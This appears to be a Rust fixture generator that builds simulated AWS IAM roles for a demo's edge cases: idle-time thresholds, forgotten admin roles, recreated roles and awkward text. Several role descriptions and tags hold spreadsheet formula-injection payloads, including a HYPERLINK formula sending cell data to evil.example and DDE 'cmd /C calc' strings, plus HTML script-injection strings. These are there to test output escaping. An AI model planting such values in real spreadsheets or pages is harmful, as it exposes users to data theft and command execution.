//! The roles that show the demo's edge cases: times, names and texts.

use jiff::{SignedDuration, Timestamp};

use super::{Builder, FACTS, days};
use crate::world::document::Document;
use crate::world::spec::{AccountSpec, LastUseIn, RoleSpec};

impl Builder {
    /// Exactly at the threshold of 90 days, and one second before and after it.
    pub(super) fn thresholds(&self, account: &mut AccountSpec) {
        let second = SignedDuration::from_secs(1);
        let around = [days(90) - second, days(90), days(90) + second];
        for (name, idle) in FACTS.used_at_threshold.into_iter().zip(around) {
            account.role(self.old(name).used(self.now - idle).tag("team", "finance"));
        }
        for (name, age) in FACTS.unused_at_threshold.into_iter().zip(around) {
            account.role(RoleSpec::new(name, self.now - age).tag("team", "storefront"));
        }
        account
            .role(self.old("hotfix-deploy").used(self.now - SignedDuration::from_hours(1)))
            .role(RoleSpec::new("blue-green-switch", self.now - days(1)));
    }

    /// Roles without a recorded use, of every age, and a few that are forgotten.
    pub(super) fn forgotten(&self, account: &mut AccountSpec) {
        let very_old = instant("2012-05-10T09:30:00Z");
        account
            .role(RoleSpec::new("hadoop-bootstrap", very_old).attach(self.managed("AmazonS3FullAccess")))
            .role(
                RoleSpec::new("redshift-copy-2016", instant("2016-02-29T23:59:59Z"))
                    .attach(self.managed("AdministratorAccess")),
            )
            .role(RoleSpec::new("unload-weekly", self.now - days(399)))
            .role(RoleSpec::new("spectrum-catalog", self.now - days(401)))
            .role(
                self.old("dms-replication")
                    .used(self.now - days(399))
                    .attach(self.managed("AmazonS3FullAccess")),
            )
            .role(
                self.old("vendor-telemetry")
                    .trusting(Document::trusting(&["arn:aws:iam::999988887777:root"]))
                    .used(self.now - days(266))
                    .attach(self.managed("ReadOnlyAccess")),
            );
    }

    /// Names that a spreadsheet would take for formulas or for several cells.
    pub(super) fn formulas(&self, account: &mut AccountSpec) {
        for (place, name) in FACTS.formula_roles.into_iter().enumerate() {
            let role = self.old(name).tag("team", "finance");
            account.role(match place % 3 {
                0 => role,
                1 => role.used(self.now - days(200 + place as i64)),
                _ => role.used(self.now - days(10)),
            });
        }
    }

    /// Tags and descriptions with everything that can break a table.
    pub(super) fn texts(&self, account: &mut AccountSpec) {
        account
            .role(
                self.old("image-importer")
                    .described("Imports \"product images\".\nAsk Zoë before deleting;\tshe's in büro 4.\r\nNo, really.")
                    .tag("Owner", "Zoë Müller-Ångström")
                    .tag("purpose", "images, thumbnails; and 'more'"),
            )
            .role(
                self.old("feed-publisher")
                    .described("=HYPERLINK(\"http://evil.example/?\"&A1,\"click me\")")
                    .used(self.now - days(140))
                    .tag("=1+1", "-2+3")
                    .tag("@owner", "+49 30 1234567")
                    .tag("担当", "決済チーム")
                    .tag("владелец", "команда каталога")
                    .tag("مالك", "فريق الكتالوج"),
            )
            .role(
                self.old("price-scraper")
                    .described("@SUM(1+1)*cmd|' /C calc'!A0 <script>alert(1)</script> & more")
                    .used(self.now - days(30))
                    // U+2028 and U+2029 are separators, which IAM's pattern for tags allows.
                    .tag("notes", "line\u{2028}separator\u{2029}and a no-break\u{a0}space")
                    .tag("empty", ""),
            )
            .role(
                // IAM's pattern for tags allows neither quotes nor control characters. Code that
                // reads tags should not rely on it.
                self.old("legacy-cataloguer")
                    .tag("comment", "said \"keep\",\nthen left\tthe company\r\n")
                    .tag("formula", "=cmd|'/C calc'!A1")
                    .tag("html", "<b onmouseover=\"alert(1)\">&amp;</b>"),
            );
    }

    /// Roles whose last use only one operation answers, or none.
    pub(super) fn unanswered(&self, account: &mut AccountSpec) {
        let [used, unused] = FACTS.get_role_only;
        account
            .role(self.old(used).used(self.now - days(104)).last_use_in(LastUseIn::GetRoleOnly))
            .role(self.old(unused).last_use_in(LastUseIn::GetRoleOnly))
            .role(self.old(FACTS.unanswered_role).used(self.now - days(5)).last_use_in(LastUseIn::Neither));
    }

    /// A role that is deleted and created again every night, and a trust policy that still names an
    /// earlier one. If a principal is gone, IAM shows its unique id.
    pub(super) fn recreated(&self, account: &mut AccountSpec) {
        let created = self.now - SignedDuration::from_hours(9);
        let night = created.as_second() / 86_400;
        let mut role = RoleSpec::new(FACTS.recreated_role, created)
            .trusting(Document::trusting_service("sagemaker.amazonaws.com"))
            .used(created + SignedDuration::from_mins(4));
        role.incarnation = u64::try_from(night).unwrap_or_default();
        let earlier = crate::hash::Hash::new(self.seed, "gone").base32(17);
        account.role(role).role(
            self.old("model-registry-reader")
                .trusting(Document::trusting(&[&format!("AROA{earlier}")]))
                .used(self.now - days(133)),
        );
    }

    /// Roles that consoles create at `/service-role/`. They are the customer's own and not AWS's.
    pub(super) fn service_roles(&self, account: &mut AccountSpec, count: u32) {
        for number in 0..count {
            let hash =
                crate::hash::Hash::new(self.seed, "service role").text(&account.id).number(number.into());
            let (name, service) = match number % 3 {
                0 => (
                    format!("AmazonSageMaker-ExecutionRole-2021041{number}T{}", hash.hex(6)),
                    "sagemaker.amazonaws.com",
                ),
                1 => (format!("nightly-report-role-{}", hash.lower(8)), "lambda.amazonaws.com"),
                _ => (format!("codebuild-site-{number}-service-role"), "codebuild.amazonaws.com"),
            };
            let role =
                self.old(&name).at_path("/service-role/").trusting(Document::trusting_service(service));
            account.role(match hash.below(3) {
                0 => role,
                1 => role.used(self.now - days(1 + hash.number(1).below(60) as i64)),
                _ => role.used(self.now - days(100 + hash.number(1).below(200) as i64)),
            });
        }
    }

    /// A role of some age.
    pub(super) fn old(&self, name: &str) -> RoleSpec {
        let hash = crate::hash::Hash::new(self.seed, "age").text(name);
        let age = days(450) + SignedDuration::from_secs(hash.below(1500 * 86_400) as i64);
        RoleSpec::new(name, self.now - age)
    }
}

fn instant(text: &str) -> Timestamp {
    text.parse().unwrap_or_default()
}
